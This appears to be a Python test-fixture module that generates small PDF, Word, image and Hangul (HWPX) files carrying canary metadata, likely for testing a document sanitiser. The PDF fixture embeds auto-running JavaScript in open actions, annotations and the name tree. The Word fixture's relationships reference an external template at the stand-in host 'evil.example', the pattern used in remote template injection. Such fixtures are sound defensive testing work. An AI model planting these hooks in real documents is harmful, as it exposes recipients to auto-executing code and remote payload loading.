"""Small files of every kind, good and hostile, made on the spot."""

import io
import zipfile
from typing import Any

import pikepdf
from PIL import Image

CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/docProps/core.xml" ContentType="application/vnd.core"/></Types>'
)
RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="a" Type="http://x/officeDocument" Target="word/document.xml"/>'
    b'<Relationship Id="b" Type="http://x/core-properties" Target="docProps/core.xml"/>'
    b'<Relationship Id="c" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    b'<Relationship Id="d" Type="http://x/hyperlink" Target="http://example.org/" TargetMode="External"/>'
    b"</Relationships>"
)
DOCUMENT = (
    b'<?xml version="1.0"?><w:document xmlns:w="urn:w"><w:ins w:author="CANARY" w:id="1">'
    b"<w:t>text</w:t></w:ins></w:document>"
)


def pdf(pages: int = 1, change: Any = None, **options: Any) -> bytes:
    """A PDF; `change(pdf)` may add to it."""
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(200, 200))
    if change:
        change(made)
    return saved(made, **options)


def saved(made: pikepdf.Pdf, **options: Any) -> bytes:
    written = io.BytesIO()
    made.save(written, **options)
    return written.getvalue()


def laid_open(made: pikepdf.Pdf) -> bytes:
    """Every object and stream in plain sight."""
    return saved(
        made, qdf=True, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable,
        stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
    )  # fmt: skip


def jpeg(author: str) -> bytes:
    written = io.BytesIO()
    exif = Image.Exif()
    exif[0x013B] = author
    Image.new("RGB", (8, 8), "red").save(written, "JPEG", exif=exif, comment=author.encode())
    return written.getvalue()


def telling_pdf() -> bytes:
    """Its author's name in every corner, and something that would act by itself."""

    def tell(made: pikepdf.Pdf) -> None:
        name = pikepdf.String("CANARY")
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('CANARY')"))
        made.docinfo["/Author"] = "CANARY"
        with made.open_metadata() as metadata:
            metadata["dc:creator"] = ["CANARY"]
        made.Root.OpenAction = script
        made.Root.AA = pikepdf.Dictionary(WC=script)
        made.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=name)
        made.attachments["CANARY.txt"] = b"CANARY"
        made.Root.Names.JavaScript = pikepdf.Dictionary(Names=[pikepdf.String("a"), script])
        page = made.pages[0].obj
        page.AA = pikepdf.Dictionary(O=script)
        page.PieceInfo = pikepdf.Dictionary(CANARY=name)
        page.Annots = made.make_indirect(
            pikepdf.Array(
                [
                    pikepdf.Dictionary(Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=script),
                    pikepdf.Dictionary(Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], Contents=name),
                ]
            )
        )
        picture = made.make_stream(jpeg("CANARY"))
        picture.update({"/Type": pikepdf.Name.XObject, "/Subtype": pikepdf.Name.Image, "/Width": 8, "/Height": 8})
        picture.update({"/Filter": pikepdf.Name.DCTDecode, "/BitsPerComponent": 8})
        picture["/ColorSpace"] = pikepdf.Name.DeviceRGB
        page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=picture))

    return pdf(change=tell)


def encrypted_pdf() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="owner", user="user"))


def docx(**extra: bytes) -> bytes:
    """A Word document; `extra` adds or replaces parts (with / written as __ and . as _dot_)."""
    parts = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": RELS,
        "word/document.xml": DOCUMENT,
        "docProps/core.xml": b"<core>CANARY</core>",
        "word/media/image1.jpeg": jpeg("CANARY"),
    }
    return archive({**parts, **{name.replace("__", "/").replace("_dot_", "."): body for name, body in extra.items()}})


def archive(parts: dict[str, bytes]) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as made:
        for name, body in parts.items():
            made.writestr(name, body)
    return written.getvalue()


def png(width: int = 8, height: int = 8, **options: Any) -> bytes:
    written = io.BytesIO()
    Image.new("RGB", (width, height), "red").save(written, "PNG", **options)
    return written.getvalue()


HWPX_PACKAGE = (
    b'<?xml version="1.0"?><opf:package xmlns:opf="http://www.idpf.org/2007/opf/">'
    b"<opf:metadata><opf:title>CANARY</opf:title><opf:language>ko</opf:language>"
    b'<opf:meta name="creator" content="text">CANARY</opf:meta></opf:metadata>'
    b'<opf:manifest><opf:item id="header" href="Contents/header.xml" media-type="application/xml"/>'
    b'<opf:item id="section0" href="Contents/section0.xml" media-type="application/xml"/>'
    b'<opf:item id="script" href="Scripts/headerScripts" media-type="application/x-javascript ;charset=utf-16"/>'
    b'</opf:manifest><opf:spine><opf:itemref idref="section0"/></opf:spine></opf:package>'
)
HWPX_CONTAINER = (
    b'<?xml version="1.0"?><ocf:container xmlns:ocf="urn:oasis:names:tc:opendocument:xmlns:container"><ocf:rootfiles>'
    b'<ocf:rootfile full-path="Contents/content.hpf" media-type="application/hwpml-package+xml"/>'
    b'<ocf:rootfile full-path="Preview/PrvText.txt" media-type="text/plain"/></ocf:rootfiles></ocf:container>'
)


def hwpx(**extra: bytes) -> bytes:
    """A Hangul document (OWPML, KS X 6101); `extra` adds or replaces parts, written as for `docx`."""
    parts = {
        "mimetype": b"application/hwp+zip",
        "version.xml": b'<?xml version="1.0"?><hv:HCFVersion xmlns:hv="urn:v" application="CANARY" appVersion="9"/>',
        "META-INF/container.xml": HWPX_CONTAINER,
        "META-INF/manifest.xml": b'<?xml version="1.0"?><odf:manifest xmlns:odf="urn:m"/>',
        "Contents/content.hpf": HWPX_PACKAGE,
        "Contents/header.xml": b'<?xml version="1.0"?><hh:head xmlns:hh="urn:h"/>',
        "Contents/section0.xml": b'<?xml version="1.0"?><hs:sec xmlns:hs="urn:s">text</hs:sec>',
        "Preview/PrvText.txt": b"CANARY",
        "Preview/PrvImage.png": b"CANARY",
        "settings.xml": b'<?xml version="1.0"?><ha:HWPApplicationSetting xmlns:ha="urn:a"/>',
    }
    return archive({**parts, **{name.replace("__", "/").replace("_dot_", "."): body for name, body in extra.items()}})
